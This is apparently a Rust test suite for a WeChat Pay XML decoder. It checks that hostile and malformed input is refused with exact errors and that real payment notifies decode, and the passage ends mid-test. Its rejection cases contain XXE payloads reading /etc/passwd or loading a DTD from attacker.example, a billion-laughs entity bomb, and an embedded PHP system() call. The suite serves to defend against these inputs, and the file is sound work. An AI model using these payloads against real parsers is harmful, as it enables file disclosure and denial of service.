//! The XML codec against hostile and malformed input (each refusal with its
//! specific kind, offset and field), against the forms WeChat really sends,
//! and against every document under `tests/documents/`.
#![allow(clippy::unwrap_used)]

use std::collections::BTreeMap;

use wxpay_core::xml::{self, DecodeOptions, XmlError, XmlErrorKind};
use wxpay_core::{ApiKey, SignType, req_info, verify};

/// Byte offset of the first `needle` in `hay` (the position a refusal must
/// point at), found rather than counted by hand.
fn at(hay: &[u8], needle: &str) -> usize {
    hay.windows(needle.len())
        .position(|w| w == needle.as_bytes())
        .unwrap_or_else(|| panic!("{needle:?} not in input"))
}

/// Byte offset of the `n`-th (0-based) `needle`.
fn at_nth(hay: &[u8], needle: &str, n: usize) -> usize {
    hay.windows(needle.len())
        .enumerate()
        .filter(|(_, w)| *w == needle.as_bytes())
        .nth(n)
        .unwrap_or_else(|| panic!("{needle:?} #{n} not in input"))
        .0
}

fn decode_err(input: &[u8], opts: &DecodeOptions<'_>) -> XmlError {
    match xml::decode_with(input, opts) {
        Ok(m) => panic!(
            "accepted {:?} as {:?}",
            String::from_utf8_lossy(input),
            m.iter().collect::<Vec<_>>()
        ),
        Err(e) => e,
    }
}

/// One refusal: the input, the exact kind, the exact offset, the field.
struct Reject {
    name: &'static str,
    input: Vec<u8>,
    kind: XmlErrorKind,
    offset: usize,
    field: Option<&'static str>,
}

fn reject(
    name: &'static str,
    input: impl Into<Vec<u8>>,
    kind: XmlErrorKind,
    offset: impl FnOnce(&[u8]) -> usize,
    field: Option<&'static str>,
) -> Reject {
    let input = input.into();
    let offset = offset(&input);
    Reject {
        name,
        input,
        kind,
        offset,
        field,
    }
}

fn entity(name: &str) -> XmlErrorKind {
    XmlErrorKind::UndefinedEntity {
        name: name.to_owned(),
    }
}

fn root(found: &str) -> XmlErrorKind {
    XmlErrorKind::UnexpectedRoot {
        found: found.to_owned(),
    }
}

const XXE_PASSWD: &str = r#"<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE xml [
  <!ENTITY xxe SYSTEM "file:///etc/passwd">
]>
<xml><appid>&xxe;</appid><mch_id>10000100</mch_id></xml>"#;

const BILLION_LAUGHS: &str = r#"<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol9 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
]>
<xml><body>&lol9;</body></xml>"#;

const EXTERNAL_PARAMETER_ENTITY: &str = r#"<?xml version="1.0"?>
<!DOCTYPE xml [
  <!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd">
  %remote;
]>
<xml><a>&exfil;</a></xml>"#;

/// `n` distinct fields, then `extra`.
fn many_fields(n: usize, extra: &str) -> String {
    let mut s = String::from("<xml>");
    for i in 0..n {
        s.push_str(&format!("<f{i:02}>{i}</f{i:02}>"));
    }
    s.push_str(extra);
    s.push_str("</xml>");
    s
}

#[allow(clippy::too_many_lines)]
fn rejections() -> Vec<Reject> {
    use XmlErrorKind as K;
    let a = |s: &'static str| move |i: &[u8]| at(i, s);
    let zero = |_: &[u8]| 0;
    let end = |i: &[u8]| i.len();
    vec![
        // DTDs and entities: the XXE family.
        reject(
            "xxe_etc_passwd",
            XXE_PASSWD,
            K::Doctype,
            a("<!DOCTYPE"),
            None,
        ),
        reject(
            "billion_laughs",
            BILLION_LAUGHS,
            K::Doctype,
            a("<!DOCTYPE"),
            None,
        ),
        reject(
            "plain_doctype",
            "<!DOCTYPE xml><xml><a>1</a></xml>",
            K::Doctype,
            zero,
            None,
        ),
        reject(
            "doctype_after_declaration_and_comment",
            "<?xml version=\"1.0\"?><!-- hi --><!DOCTYPE xml SYSTEM \"http://x/y.dtd\"><xml/>",
            K::Doctype,
            a("<!DOCTYPE"),
            None,
        ),
        reject(
            "external_parameter_entity",
            EXTERNAL_PARAMETER_ENTITY,
            K::Doctype,
            a("<!DOCTYPE"),
            None,
        ),
        reject(
            "bare_entity_declaration",
            "<!ENTITY % remote SYSTEM \"http://attacker.example/x\">%remote;<xml/>",
            K::Doctype,
            zero,
            None,
        ),
        reject(
            "doctype_inside_field",
            "<xml><a><!DOCTYPE x></a></xml>",
            K::Doctype,
            a("<!DOCTYPE"),
            Some("a"),
        ),
        reject(
            "doctype_between_fields",
            "<xml><a>1</a><!DOCTYPE x [<!ENTITY e \"v\">]><b>&e;</b></xml>",
            K::Doctype,
            a("<!DOCTYPE"),
            None,
        ),
        reject(
            "doctype_after_root",
            "<xml><a>1</a></xml><!DOCTYPE x>",
            K::Doctype,
            a("<!DOCTYPE"),
            None,
        ),
        reject(
            "xxe_reference_without_doctype",
            "<xml><appid>&xxe;</appid></xml>",
            entity("xxe"),
            a("&xxe;"),
            Some("appid"),
        ),
        reject(
            "marked_section",
            "<xml><a><![INCLUDE[x]]></a></xml>",
            K::Doctype,
            a("<![INCLUDE"),
            Some("a"),
        ),
        // Undefined entities and bad references.
        reject(
            "html_entity",
            "<xml><a>&nbsp;</a></xml>",
            entity("nbsp"),
            a("&nbsp;"),
            Some("a"),
        ),
        reject(
            "empty_entity",
            "<xml><a>x&;</a></xml>",
            entity(""),
            a("&;"),
            Some("a"),
        ),
        reject(
            "unterminated_reference",
            "<xml><a>AT&T</a></xml>",
            K::Syntax("'&' must start a reference ending in ';' (write &amp; for a literal '&')"),
            a("&T"),
            Some("a"),
        ),
        reject(
            "char_ref_nul",
            "<xml><a>&#0;</a></xml>",
            K::InvalidCharRef,
            a("&#0;"),
            Some("a"),
        ),
        reject(
            "char_ref_surrogate",
            "<xml><a>x&#xD800;</a></xml>",
            K::InvalidCharRef,
            a("&#xD800;"),
            Some("a"),
        ),
        reject(
            "char_ref_beyond_unicode",
            "<xml><a>&#x110000;</a></xml>",
            K::InvalidCharRef,
            a("&#x110000;"),
            Some("a"),
        ),
        reject(
            "char_ref_decimal_beyond_unicode",
            "<xml><a>&#1114112;</a></xml>",
            K::InvalidCharRef,
            a("&#1114112;"),
            Some("a"),
        ),
        reject(
            "char_ref_not_hex",
            "<xml><a>&#xZZ;</a></xml>",
            K::InvalidCharRef,
            a("&#x"),
            Some("a"),
        ),
        reject(
            "char_ref_empty",
            "<xml><a>&#;</a></xml>",
            K::InvalidCharRef,
            a("&#;"),
            Some("a"),
        ),
        reject(
            "char_ref_empty_hex",
            "<xml><a>&#x;</a></xml>",
            K::InvalidCharRef,
            a("&#x;"),
            Some("a"),
        ),
        reject(
            "char_ref_signed",
            "<xml><a>&#-65;</a></xml>",
            K::InvalidCharRef,
            a("&#-65;"),
            Some("a"),
        ),
        // Size.
        reject(
            "over_default_limit",
            {
                let mut v = b"<xml><a>".to_vec();
                v.resize(xml::DEFAULT_MAX_BYTES - 10, b'x');
                v.extend_from_slice(b"</a></xml>!");
                v
            },
            K::TooLarge {
                limit: xml::DEFAULT_MAX_BYTES,
            },
            |_| xml::DEFAULT_MAX_BYTES,
            None,
        ),
        // Structure.
        reject(
            "nested",
            "<xml><a><b>1</b></a></xml>",
            K::Nested,
            a("<b>"),
            Some("a"),
        ),
        reject(
            "nested_after_text",
            "<xml><a>x<![CDATA[y]]><b/></a></xml>",
            K::Nested,
            a("<b/>"),
            Some("a"),
        ),
        reject(
            "duplicate_few_fields",
            "<xml><a>1</a><b>2</b><a>3</a></xml>",
            K::Duplicate,
            |i| at_nth(i, "<a>", 1) + 1,
            Some("a"),
        ),
        reject(
            "duplicate_empty_element",
            "<xml><sign>X</sign><sign/></xml>",
            K::Duplicate,
            |i| at(i, "<sign/>") + 1,
            Some("sign"),
        ),
        reject(
            "duplicate_over_16_fields",
            many_fields(20, "<f05>again</f05>"),
            K::Duplicate,
            |i| at(i, "<f05>again") + 1,
            Some("f05"),
        ),
        reject(
            "duplicate_over_64_fields",
            many_fields(70, "<f05>again</f05>"),
            K::Duplicate,
            |i| at(i, "<f05>again") + 1,
            Some("f05"),
        ),
        reject(
            "duplicate_over_64_fields_first_repeat_wins",
            many_fields(70, "<f69>x</f69><f03>y</f03><f69>z</f69>"),
            K::Duplicate,
            |i| at(i, "<f69>x") + 1,
            Some("f69"),
        ),
        reject(
            "wrong_root",
            "<root><a>1</a></root>",
            root("root"),
            |_| 1,
            None,
        ),
        reject("root_case", "<XML><a>1</a></XML>", root("XML"), |_| 1, None),
        reject(
            "root_prefix",
            "<xmlx><a>1</a></xmlx>",
            root("xmlx"),
            |_| 1,
            None,
        ),
        reject(
            "field_as_root",
            "<return_code>SUCCESS</return_code>",
            root("return_code"),
            |_| 1,
            None,
        ),
        reject(
            "mismatched_close",
            "<xml><a>1</b></xml>",
            K::MismatchedTag,
            |i| at(i, "</b>") + 2,
            Some("a"),
        ),
        reject(
            "mismatched_root_close",
            "<xml><a>1</a></root>",
            K::MismatchedTag,
            |i| at(i, "</root>") + 2,
            Some("xml"),
        ),
        reject(
            "invalid_name",
            "<xml><1a>1</1a></xml>",
            K::InvalidName,
            a("1a>"),
            None,
        ),
        reject(
            "namespaced_name",
            "<xml><wx:a>1</wx:a></xml>",
            K::Syntax("expected '>' to end the tag"),
            a(":a>"),
            None,
        ),
        // UTF-8: the offset is the first bad byte.
        reject(
            "invalid_utf8_truncated_sequence",
            b"<xml><body>\xE4\xB8</body></xml>".to_vec(),
            K::NotUtf8,
            |i| at(i, "<body>") + 6,
            None,
        ),
        reject(
            "invalid_utf8_lone_byte",
            b"<xml><a>ok</a><b>\xFF</b></xml>".to_vec(),
            K::NotUtf8,
            |i| at(i, "<b>") + 3,
            None,
        ),
        reject(
            "invalid_utf8_overlong",
            b"<xml><a>\xC0\xAF</a></xml>".to_vec(),
            K::NotUtf8,
            |_| 8,
            None,
        ),
        reject(
            "invalid_utf8_encoded_surrogate",
            b"<xml><a>\xED\xA0\x80</a></xml>".to_vec(),
            K::NotUtf8,
            |_| 8,
            None,
        ),
        reject(
            "utf16_bom",
            b"\xFF\xFE<\x00x\x00m\x00l\x00>\x00".to_vec(),
            K::NotUtf8,
            zero,
            None,
        ),
        // Attributes and processing instructions.
        reject(
            "attribute_on_field",
            "<xml><a b=\"1\">x</a></xml>",
            K::Attribute,
            a("b=\""),
            None,
        ),
        reject(
            "attribute_on_root",
            "<xml xmlns=\"urn:x\"><a>1</a></xml>",
            K::Attribute,
            a("xmlns"),
            None,
        ),
        reject(
            "processing_instruction_between_fields",
            "<xml><a>1</a><?php system('id'); ?></xml>",
            K::ProcessingInstruction,
            a("<?php"),
            None,
        ),
        reject(
            "processing_instruction_in_field",
            "<xml><a>1<?x y?></a></xml>",
            K::ProcessingInstruction,
            a("<?x"),
            Some("a"),
        ),
        reject(
            "stylesheet_before_root",
            "<?xml-stylesheet href=\"x.xsl\"?><xml/>",
            K::ProcessingInstruction,
            zero,
            None,
        ),
        reject(
            "second_declaration",
            "<?xml version=\"1.0\"?><?xml version=\"1.0\"?><xml/>",
            K::ProcessingInstruction,
            |i| at_nth(i, "<?xml", 1),
            None,
        ),
        // Truncation.
        reject("empty", "", K::Empty, zero, None),
        reject("whitespace_only", " \r\n\t ", K::Empty, end, None),
        reject("bom_only", "\u{feff}", K::Empty, end, None),
        reject(
            "declaration_only",
            "<?xml version=\"1.0\"?>\n",
            K::Empty,
            end,
            None,
        ),
        reject(
            "truncated_declaration",
            "<?xml version=\"1.0\"",
            K::UnexpectedEof,
            zero,
            None,
        ),
        reject("truncated_root_tag", "<xml", K::UnexpectedEof, end, None),
        reject("truncated_after_root", "<xml>", K::UnexpectedEof, end, None),
        reject(
            "truncated_after_field",
            "<xml><a>1</a>",
            K::UnexpectedEof,
            end,
            None,
        ),
        reject(
            "truncated_in_text",
            "<xml><a>12",
            K::UnexpectedEof,
            |i| at(i, "12"),
            Some("a"),
        ),
        reject(
            "truncated_in_cdata",
            "<xml><a><![CDATA[abc]]",
            K::UnexpectedEof,
            a("<![CDATA["),
            Some("a"),
        ),
        reject(
            "truncated_close_tag",
            "<xml><a>1</a",
            K::UnexpectedEof,
            end,
            None,
        ),
        reject(
            "truncated_field_tag",
            "<xml><a",
            K::UnexpectedEof,
            end,
            None,
        ),
        reject(
            "truncated_comment",
            "<xml><!-- x",
            K::UnexpectedEof,
            a("<!--"),
            None,
        ),
        reject(
            "truncated_root_close",
            "<xml><a>1</a></xml",
            K::UnexpectedEof,
            end,
            None,
        ),
        // Text where none belongs.
        reject(
            "text_between_fields",
            "<xml><a>1</a>oops<b>2</b></xml>",
            K::UnexpectedText,
            a("oops"),
            None,
        ),
        reject(
            "text_before_first_field",
            "<xml>hello<a>1</a></xml>",
            K::UnexpectedText,
            a("hello"),
            None,
        ),
        reject(
            "cdata_between_fields",
            "<xml><a>1</a><![CDATA[x]]></xml>",
            K::UnexpectedText,
            a("<![CDATA["),
            None,
        ),
        reject("text_before_root", "x<xml/>", K::UnexpectedText, zero, None),
        reject(
            "trailing_garbage",
            "<xml><a>1</a></xml>junk",
            K::UnexpectedText,
            a("junk"),
            None,
        ),
        reject(
            "second_root",
            "<xml><a>1</a></xml><xml/>",
            K::UnexpectedText,
            |i| at_nth(i, "<xml", 1),
            None,
        ),
        reject(
            "trailing_nul",
            b"<xml/>\0".to_vec(),
            // A character XML 1.0 forbids is reported as such.
            K::InvalidChar { ch: 0 },
            |_| 6,
            None,
        ),
    ]
}

#[test]
fn rejections_are_specific() {
    let opts = DecodeOptions::default();
    let cases = rejections();
    for (i, c) in cases.iter().enumerate() {
        let e = decode_err(&c.input, &opts);
        let expected = (&c.kind, c.offset, c.field);
        let got = (&e.kind, e.offset, e.field.as_deref());
        assert_eq!(got, expected, "case {i} {}: {e}", c.name);
        // Every refusal has a stable code and a message.
        assert!(e.code().starts_with("ERR_XML_"), "case {}", c.name);
        assert!(!e.to_string().is_empty());
    }
    // Names are unique, so a failure points at one case.
    let mut names: Vec<_> = cases.iter().map(|c| c.name).collect();
    names.sort_unstable();
    names.dedup();
    assert_eq!(names.len(), cases.len());
}

/// The limit is exact: a document of exactly `max_bytes` decodes, one byte
/// more is refused before any parsing.
#[test]
fn size_limits_default_and_custom() {
    let body = |len: usize| {
        let mut v = b"<xml><a>".to_vec();
        v.resize(len - b"</a></xml>".len(), b'x');
        v.extend_from_slice(b"</a></xml>");
        v
    };
    let exact = body(xml::DEFAULT_MAX_BYTES);
    assert_eq!(exact.len(), xml::DEFAULT_MAX_BYTES);
    let m = xml::decode(&exact).unwrap();
    assert_eq!(m.get("a").unwrap().len(), xml::DEFAULT_MAX_BYTES - 18);

    let opts = DecodeOptions {
        max_bytes: 100,
        ..DecodeOptions::default()
    };
    assert!(xml::decode_with(&body(100), &opts).is_ok());
    let e = xml::decode_with(&body(101), &opts).unwrap_err();
    assert_eq!(e.code(), "ERR_XML_TOO_LARGE");
    assert_eq!(
        (e.kind, e.offset, e.field),
        (XmlErrorKind::TooLarge { limit: 100 }, 100, None)
    );
    // Oversized hostile input is refused as too large, before its DOCTYPE
    // is even looked at.
    let mut hostile = XXE_PASSWD.as_bytes().to_vec();
    hostile.resize(200, b' ');
    let e = xml::decode_with(&hostile, &opts).unwrap_err();
    assert_eq!(e.kind, XmlErrorKind::TooLarge { limit: 100 });
}

#[test]
fn root_is_accepted_only_when_asked() {
    let doc = b"<root><out_refund_no><![CDATA[131811191610442717309]]></out_refund_no></root>";
    let e = xml::decode(doc).unwrap_err();
    assert_eq!((e.kind, e.offset), (root("root"), 1));
    let only_root = DecodeOptions {
        roots: &["root"],
        ..DecodeOptions::default()
    };
    let m = xml::decode_with(doc, &only_root).unwrap();
    assert_eq!(m.root(), "root");
    assert_eq!(m.get("out_refund_no"), Some("131811191610442717309"));
    // Asking for <root> alone refuses <xml>.
    let e = xml::decode_with(b"<xml/>", &only_root).unwrap_err();
    assert_eq!(e.kind, root("xml"));
    // Both at once.
    let both = DecodeOptions {
        roots: &["root", "xml"],
        ..DecodeOptions::default()
    };
    assert_eq!(xml::decode_with(b"<xml/>", &both).unwrap().root(), "xml");
    assert_eq!(xml::decode_with(doc, &both).unwrap().root(), "root");
}

fn fields(input: &str) -> Vec<(String, String)> {
    match xml::decode(input.as_bytes()) {
        Ok(m) => m
            .iter()
            .map(|(k, v)| (k.to_owned(), v.to_owned()))
            .collect(),
        Err(e) => panic!("refused {input:?}: {e}"),
    }
}

fn pairs(p: &[(&str, &str)]) -> Vec<(String, String)> {
    p.iter()
        .map(|(k, v)| ((*k).to_owned(), (*v).to_owned()))
        .collect()
}

/// An accepted input: name, document, the fields it must decode to.
type Accept = (
    &'static str,
    &'static str,
    &'static [(&'static str, &'static str)],
);

#[test]
fn accepted_forms() {
    let cases: &[Accept] = &[
        (
            "cdata",
            "<xml><a><![CDATA[x & <y>]]></a></xml>",
            &[("a", "x & <y>")],
        ),
        (
            "plain_text",
            "<xml><total_fee>1</total_fee></xml>",
            &[("total_fee", "1")],
        ),
        (
            "five_entities",
            "<xml><a>&lt;&gt;&amp;&apos;&quot;</a></xml>",
            &[("a", "<>&'\"")],
        ),
        (
            "numeric_references",
            "<xml><a>&#20013;&#x6587;&#X1F600;&#65;&#x9;</a></xml>",
            &[("a", "中文😀A\t")],
        ),
        (
            "mixed_in_one_element",
            "<xml><a>a&amp;b<![CDATA[<c>]]>d&#x4e2d;<![CDATA[]]>e</a></xml>",
            &[("a", "a&b<c>d中e")],
        ),
        (
            "split_cdata_terminator",
            "<xml><a><![CDATA[x]]]]><![CDATA[>y]]></a></xml>",
            &[("a", "x]]>y")],
        ),
        (
            "brackets_in_text",
            "<xml><a>]] ]]&gt; ]</a></xml>",
            &[("a", "]] ]]> ]")],
        ),
        (
            "declaration",
            "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?><xml><a>1</a></xml>",
            &[("a", "1")],
        ),
        ("bom", "\u{feff}<xml><a>1</a></xml>", &[("a", "1")]),
        (
            "bom_and_declaration",
            "\u{feff}<?xml version=\"1.0\"?>\r\n<xml><a>1</a></xml>\r\n",
            &[("a", "1")],
        ),
        (
            "whitespace_newlines_comments",
            "\n<xml>\n\t<a>1</a>\r\n  <!-- the amount -->\n  <b><![CDATA[2]]></b> <!-- x -->\n</xml>\n\n",
            &[("a", "1"), ("b", "2")],
        ),
        (
            "comment_inside_field",
            "<xml><a>1<!-- ignored -->2</a></xml>",
            &[("a", "12")],
        ),
        (
            "empty_elements",
            "<xml><a/><b></b><c><![CDATA[]]></c><d /></xml>",
            &[("a", ""), ("b", ""), ("c", ""), ("d", "")],
        ),
        (
            "whitespace_is_kept",
            "<xml><a>  x  </a><b> </b><c>\r\n</c><d><![CDATA[ \t ]]></d></xml>",
            // CR LF reads as LF (XML 1.0 §2.11).
            &[("a", "  x  "), ("b", " "), ("c", "\n"), ("d", " \t ")],
        ),
        (
            "whitespace_in_tags",
            "<xml ><a >1</a ><b\n/></xml\n>",
            &[("a", "1"), ("b", "")],
        ),
        (
            "parameter_entity_syntax_is_just_text",
            "<xml><a>%remote;</a></xml>",
            &[("a", "%remote;")],
        ),
        (
            "markup_inside_cdata_is_text",
            "<xml><a><![CDATA[<!DOCTYPE x><?pi?>&xxe;<b>]]></a></xml>",
            &[("a", "<!DOCTYPE x><?pi?>&xxe;<b>")],
        ),
        (
            "names",
            "<xml><_a>1</_a><coupon_fee_0>2</coupon_fee_0><a.b-c>3</a.b-c></xml>",
            &[("_a", "1"), ("coupon_fee_0", "2"), ("a.b-c", "3")],
        ),
        ("self_closing_root", "<xml/>", &[]),
        ("empty_root", "<xml></xml>", &[]),
        (
            "cjk_and_emoji",
            "<xml><body>腾讯充值中心-QQ会员充值😀</body></xml>",
            &[("body", "腾讯充值中心-QQ会员充值😀")],
        ),
    ];
    for (name, input, expected) in cases {
        assert_eq!(fields(input), pairs(expected), "case {name}");
    }
}

/// Many long names that share their first 16 bytes (or more) and differ
/// only at the end are distinct fields.
#[test]
fn many_names_sharing_a_long_prefix() {
    let mut d = String::from("<xml>");
    for i in 0..100 {
        d.push_str(&format!(
            "<coupon_fee_prefix_{i}>{i}</coupon_fee_prefix_{i}>"
        ));
    }
    d.push_str(
        "<coupon_fee_prefix_>x</coupon_fee_prefix_><coupon_fee_prefi>y</coupon_fee_prefi></xml>",
    );
    let m = xml::decode(d.as_bytes()).unwrap();
    assert_eq!(m.len(), 102);
    assert_eq!(m.get("coupon_fee_prefix_99"), Some("99"));
    assert_eq!(m.get("coupon_fee_prefi"), Some("y"));
}

/// Fields come back in document order; duplicates that differ only in case
/// are different fields (names are case-sensitive).
#[test]
fn document_order_and_case_sensitive_names() {
    assert_eq!(
        fields("<xml><b>1</b><a>2</a><appId>3</appId><appid>4</appid></xml>"),
        pairs(&[("b", "1"), ("a", "2"), ("appId", "3"), ("appid", "4")])
    );
}

/// Protocol §2.3 (WxJava#3750): a v2 payment notify that arrived without
/// any CDATA. It decodes, and its HMAC-SHA256 sign verifies although there
/// is no `sign_type` (the type comes from the sign's length).
#[test]
fn no_cdata_notify_decodes_and_verifies() {
    let doc = include_str!("documents/payment_notify_hmac_no_cdata.xml");
    assert!(!doc.contains("CDATA"));
    let m = xml::decode(doc.as_bytes()).unwrap();
    assert_eq!(m.get("appid"), Some("wx2421b1c4370ec43b"));
    assert_eq!(m.get("attach"), Some("支付测试"));
    assert_eq!(m.get("total_fee"), Some("2990"));
    assert_eq!(m.get("sign_type"), None);
    assert_eq!(m.get("sign").map(str::len), Some(64));
    let key = ApiKey::new(KEY);
    assert_eq!(verify(&m, &key, None), Ok(SignType::HmacSha256));
    // The same fields in CDATA, as most notifies come, decode identically.
    let cdata = xml::encode(&m).unwrap();
    assert_eq!(
        xml::decode(cdata.as_bytes()).unwrap().to_param_map(),
        m.to_param_map()
    );
}

/// The key of WeChat's signature spec, used to sign the documents.
const KEY: &str = "192006250b4c09247ec02edce69f6a2d";

/// How each document is checked beyond decoding.
enum Check {
    /// Carries a sign that verifies with [`KEY`] as this type.
    Signed(SignType),
    /// Carries no sign.
    Unsigned,
    /// A refund notify whose `req_info` decrypts to this many fields.
    RefundNotify(usize),
}

const DOCUMENTS: &[(&str, &str, &[&str], usize, Check)] = &[
    (
        "payment_notify_md5.xml",
        include_str!("documents/payment_notify_md5.xml"),
        &["xml"],
        21,
        Check::Signed(SignType::Md5),
    ),
    (
        "payment_notify_hmac_no_cdata.xml",
        include_str!("documents/payment_notify_hmac_no_cdata.xml"),
        &["xml"],
        21,
        Check::Signed(SignType::HmacSha256),
    ),
    (
        "wechatpy_dict_to_xml.xml",
        include_str!("documents/wechatpy_dict_to_xml.xml"),
        &["xml"],
        3,
        Check::Signed(SignType::Md5),
    ),
    (
        "unifiedorder_request_jsapi.xml",
        include_str!("documents/unifiedorder_request_jsapi.xml"),
        &["xml"],
        13,
        Check::Signed(SignType::Md5),
    ),
    (
        "unifiedorder_response_success.xml",
        include_str!("documents/unifiedorder_response_success.xml"),
        &["xml"],
        9,
        Check::Signed(SignType::Md5),
    ),
    (
        "unifiedorder_response_sign_error.xml",
        include_str!("documents/unifiedorder_response_sign_error.xml"),
        &["xml"],
        2,
        Check::Unsigned,
    ),
    (
        "orderquery_response_hmac.xml",
        include_str!("documents/orderquery_response_hmac.xml"),
        &["xml"],
        27,
        Check::Signed(SignType::HmacSha256),
    ),
    (
        "getsignkey_response.xml",
        include_str!("documents/getsignkey_response.xml"),
        &["xml"],
        4,
        Check::Unsigned,
    ),
    (
        "notify_reply_success.xml",
        include_str!("documents/notify_reply_success.xml"),
        &["xml"],
        2,
        Check::Unsigned,
    ),
    (
        "refund_notify.xml",
        include_str!("documents/refund_notify.xml"),
        &["xml"],
        5,
        Check::RefundNotify(13),
    ),
    (
        "refund_req_info_plaintext.xml",
        include_str!("documents/refund_req_info_plaintext.xml"),
        &["root"],
        13,
        Check::Unsigned,
    ),
];

#[test]
fn every_document_decodes() {
    let key = ApiKey::new(KEY);
    for (file, text, roots, count, check) in DOCUMENTS {
        let opts = DecodeOptions {
            roots,
            ..DecodeOptions::default()
        };
        let m = xml::decode_with(text.as_bytes(), &opts).unwrap_or_else(|e| panic!("{file}: {e}"));
        assert_eq!(m.len(), *count, "{file}: field count");
        match check {
            Check::Signed(t) => assert_eq!(verify(&m, &key, None), Ok(*t), "{file}"),
            Check::Unsigned => assert_eq!(m.get("sign"), None, "{file}"),
            Check::RefundNotify(n) => {
                assert_eq!(m.get("sign"), None, "{file}");
                let inner = req_info::decrypt_fields(m.get("req_info").unwrap(), &key)
                    .unwrap_or_else(|e| panic!("{file}: {e}"));
                assert_eq!(inner.len(), *n, "{file}: req_info fields");
                let plain = include_str!("documents/refund_req_info_plaintext.xml");
                let roots = DecodeOptions {
                    roots: &["root"],
                    ..DecodeOptions::default()
                };
                assert_eq!(
                    inner,
                    xml::decode_with(plain.as_bytes(), &roots)
                        .unwrap()
                        .to_param_map(),
                    "{file}: req_info plaintext"
                );
            }
        }
        // Re-encoding gives the same fields back.
        let again = xml::encode_root(m.root(), &m).unwrap();
        assert_eq!(
            xml::decode_with(again.as_bytes(), &opts)
                .unwrap()
                .to_param_map(),
            m.to_param_map(),
            "{file}: re-encoded"
        );
    }
}

/// The documents folder, its README and the table above list the same files.
#[test]
fn documents_readme_lists_every_file() {
    let dir = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/documents");
    let mut on_disk: Vec<String> = std::fs::read_dir(&dir)
        .unwrap()
        .map(|e| e.unwrap().file_name().into_string().unwrap())
        .filter(|n| n.ends_with(".xml"))
        .collect();
    on_disk.sort();
    let readme = std::fs::read_to_string(dir.join("README.md")).unwrap();
    let mut listed: Vec<String> = readme
        .lines()
        .filter_map(|l| l.strip_prefix("- `"))
        .filter_map(|l| l.split('`').next())
        .map(str::to_owned)
        .collect();
    listed.sort();
    let mut tested: Vec<String> = DOCUMENTS.iter().map(|d| d.0.to_owned()).collect();
    tested.sort();
    assert_eq!(listed, on_disk, "README.md vs files");
    assert_eq!(tested, on_disk, "tests vs files");
}

/// Inputs built to make a careless parser quadratic (rescanning, duplicate
/// checks against every earlier field, unbounded lookahead). Only the
/// results are asserted here; the benchmark times them.
mod adversarial {
    use super::*;

    /// The `i`-th of 3-character names (over 200,000 of them).
    pub(crate) fn short_name(i: usize) -> String {
        const START: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz";
        const REST: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789_.";
        let bytes = [
            START[i / (64 * 64) % START.len()],
            REST[i / 64 % 64],
            REST[i % 64],
        ];
        String::from_utf8(bytes.to_vec()).unwrap()
    }

    /// `n` distinct fields of 12 bytes each (60,000 make about 0.7 MiB).
    pub(crate) fn distinct_fields(n: usize) -> String {
        let mut s = String::from("<xml>");
        for i in 0..n {
            let k = short_name(i);
            s.push_str(&format!("<{k}>v</{k}>"));
        }
        s.push_str("</xml>");
        s
    }

    #[test]
    fn sixty_thousand_distinct_fields() {
        let doc = distinct_fields(60_000);
        assert!(doc.len() <= xml::DEFAULT_MAX_BYTES, "{}", doc.len());
        let m = xml::decode(doc.as_bytes()).unwrap();
        assert_eq!(m.len(), 60_000);
        assert_eq!(m.get(&short_name(59_999)), Some("v"));
    }

    #[test]
    fn sixty_thousand_fields_with_one_late_duplicate() {
        let mut doc = distinct_fields(60_000);
        doc.truncate(doc.len() - "</xml>".len());
        let k = short_name(12_345);
        doc.push_str(&format!("<{k}>dup</{k}></xml>"));
        let e = xml::decode(doc.as_bytes()).unwrap_err();
        assert_eq!(e.kind, XmlErrorKind::Duplicate);
        assert_eq!(e.field.as_deref(), Some(k.as_str()));
        assert_eq!(e.offset, at(doc.as_bytes(), &format!("<{k}>dup")) + 1);
    }

    #[test]
    fn a_megabyte_of_unclosed_open_tags() {
        let mut doc = String::from("<xml>");
        while doc.len() + 3 <= xml::DEFAULT_MAX_BYTES {
            doc.push_str("<a>");
        }
        let e = xml::decode(doc.as_bytes()).unwrap_err();
        assert_eq!((e.kind, e.offset), (XmlErrorKind::Nested, 8));
        // Without the root, the first <a> is refused as the root.
        let e = xml::decode(&doc.as_bytes()[5..]).unwrap_err();
        assert_eq!(e.kind, root("a"));
    }

    #[test]
    fn a_megabyte_of_brackets_in_an_unterminated_cdata() {
        let mut doc = b"<xml><a><![CDATA[".to_vec();
        doc.resize(xml::DEFAULT_MAX_BYTES, b']');
        let e = xml::decode(&doc).unwrap_err();
        assert_eq!((e.kind, e.offset), (XmlErrorKind::UnexpectedEof, 8));
    }

    #[test]
    fn a_megabyte_of_references() {
        let mut doc = String::from("<xml><a>");
        while doc.len() + 17 + 10 <= xml::DEFAULT_MAX_BYTES {
            doc.push_str("&amp;&#x4e2d;&lt;");
        }
        doc.push_str("</a></xml>");
        let m = xml::decode(doc.as_bytes()).unwrap();
        assert!(m.get("a").unwrap().starts_with("&中<&中<"));
    }

    #[test]
    fn a_megabyte_of_ampersands_and_hashes() {
        let mut doc = b"<xml><a>".to_vec();
        doc.resize(xml::DEFAULT_MAX_BYTES, b'&');
        let e = xml::decode(&doc).unwrap_err();
        assert_eq!((e.offset, e.field.as_deref()), (8, Some("a")));
        let mut doc = b"<xml><a>&#".to_vec();
        doc.resize(xml::DEFAULT_MAX_BYTES, b'1');
        let e = xml::decode(&doc).unwrap_err();
        assert_eq!((e.offset, e.field.as_deref()), (8, Some("a")));
    }

    #[test]
    fn a_megabyte_of_comments_and_dashes() {
        let mut doc = String::from("<xml><a/>");
        while doc.len() + 20 < xml::DEFAULT_MAX_BYTES {
